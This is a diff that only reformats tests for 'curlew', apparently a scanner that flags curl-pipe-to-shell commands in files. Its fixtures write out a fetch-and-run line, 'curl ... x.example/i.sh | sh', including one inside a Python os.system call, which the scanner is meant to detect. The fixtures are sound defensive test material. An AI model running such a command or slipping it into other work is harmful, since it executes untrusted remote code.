@@ -8,9 +8,17 @@ import { runHere } from "./stand-in.js";
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
 describe("a pipe that is closed", () => {
-  const files = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`${String(i).padStart(3, "0")}.md`, i < 299 ? "x\n".repeat(50) : `${BAD}\n`]));
+  const files = Object.fromEntries(
+    Array.from({ length: 300 }, (_, i) => [
+      `${String(i).padStart(3, "0")}.md`,
+      i < 299 ? "x\n".repeat(50) : `${BAD}\n`,
+    ]),
+  );
   const cwd = folderWith(files);
-  const status = async (line: string) => (await bash(`${line}; echo "status \${PIPESTATUS[0]}"`, { cwd })).stdout.match(/status (\d+)/)?.[1];
+  const status = async (line: string) =>
+    (await bash(`${line}; echo "status \${PIPESTATUS[0]}"`, { cwd })).stdout.match(
+      /status (\d+)/,
+    )?.[1];
 
   it.each([
     ["a finding", "curlew scan . | true", "1"],
@@ -25,27 +33,47 @@ describe("a pipe that is closed", () => {
 describe("what is named twice", () => {
   it("counts once", async () => {
     const cwd = folderWith({ "a.md": BAD, "sub/b.md": BAD, "data.xyz": BAD });
-    const found = async (...paths: string[]) => (await runHere(["scan", ...paths], { cwd })).stdout.split("\n").at(-2);
-    expect(await found("a.md", "./a.md", join(cwd, "a.md"), "sub/../a.md")).toBe("1 finding in 1 of 1 text");
-    expect(await found(".", "a.md", "sub", "sub/b.md")).toBe("2 findings in 2 of 2 texts (1 file of no known kind passed over)");
+    const found = async (...paths: string[]) =>
+      (await runHere(["scan", ...paths], { cwd })).stdout.split("\n").at(-2);
+    expect(await found("a.md", "./a.md", join(cwd, "a.md"), "sub/../a.md")).toBe(
+      "1 finding in 1 of 1 text",
+    );
+    expect(await found(".", "a.md", "sub", "sub/b.md")).toBe(
+      "2 findings in 2 of 2 texts (1 file of no known kind passed over)",
+    );
     // a folder passes over what is read when it is named
-    expect(await found(".", "data.xyz")).toBe("3 findings in 3 of 3 texts (1 file of no known kind passed over)");
-    expect((await runHere(["scan", "no.md", "./no.md"], { cwd })).stderr).toBe("curlew: no.md: no such file or folder\n");
-    expect((await runHere(["scan", "-", "-"], { cwd, stdin: BAD })).stdout).toContain("1 finding in 1 of 1 text");
+    expect(await found(".", "data.xyz")).toBe(
+      "3 findings in 3 of 3 texts (1 file of no known kind passed over)",
+    );
+    expect((await runHere(["scan", "no.md", "./no.md"], { cwd })).stderr).toBe(
+      "curlew: no.md: no such file or folder\n",
+    );
+    expect((await runHere(["scan", "-", "-"], { cwd, stdin: BAD })).stdout).toContain(
+      "1 finding in 1 of 1 text",
+    );
   });
 
   it("is another file where a link leads to it", async () => {
     const cwd = folderWith({ "a.md": BAD });
     symlinkSync("a.md", join(cwd, "b.md"));
-    expect((await runHere(["scan", "a.md", "b.md"], { cwd })).stdout).toContain("2 findings in 2 of 2 texts");
+    expect((await runHere(["scan", "a.md", "b.md"], { cwd })).stdout).toContain(
+      "2 findings in 2 of 2 texts",
+    );
   });
 });
 
 describe("--jobs", () => {
   it("gives the same answer as one thread, in the same order", async () => {
-    const files = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`${i}.md`, `${"words and words\n".repeat((i * 37) % 200)}\n${i % 3 === 0 ? BAD : ""}\n`]));
+    const files = Object.fromEntries(
+      Array.from({ length: 40 }, (_, i) => [
+        `${i}.md`,
+        `${"words and words\n".repeat((i * 37) % 200)}\n${i % 3 === 0 ? BAD : ""}\n`,
+      ]),
+    );
     const cwd = folderWith({ ...files, "x.py": `import os\nos.system("${BAD}")\n` });
-    const [one, three] = await Promise.all(["1", "3"].map((jobs) => curlew(["scan", "--format", "json", "--jobs", jobs, "."], { cwd })));
+    const [one, three] = await Promise.all(
+      ["1", "3"].map((jobs) => curlew(["scan", "--format", "json", "--jobs", jobs, "."], { cwd })),
+    );
     expect(one?.stdout).toBe(three?.stdout);
     expect([one?.status, three?.status, one?.stderr, three?.stderr]).toEqual([1, 1, "", ""]);
     expect(JSON.parse(one?.stdout ?? "").summary).toMatchObject({ files: 41, findings: 15 });
@@ -53,7 +81,13 @@ describe("--jobs", () => {
 
   it("ends when something goes wrong in between", async () => {
     const cwd = folderWith({ "a.md": BAD, "b.md": BAD });
-    expect(await bash("curlew scan --jobs 2 . > /dev/full", { cwd })).toMatchObject({ status: 2, stderr: "curlew: cannot write standard output: no space left\n" });
-    expect(await curlew(["scan", "--jobs", "0", "."], { cwd })).toMatchObject({ status: 2, stderr: expect.stringContaining("whole number above 0") });
+    expect(await bash("curlew scan --jobs 2 . > /dev/full", { cwd })).toMatchObject({
+      status: 2,
+      stderr: "curlew: cannot write standard output: no space left\n",
+    });
+    expect(await curlew(["scan", "--jobs", "0", "."], { cwd })).toMatchObject({
+      status: 2,
+      stderr: expect.stringContaining("whole number above 0"),
+    });
   });
 });
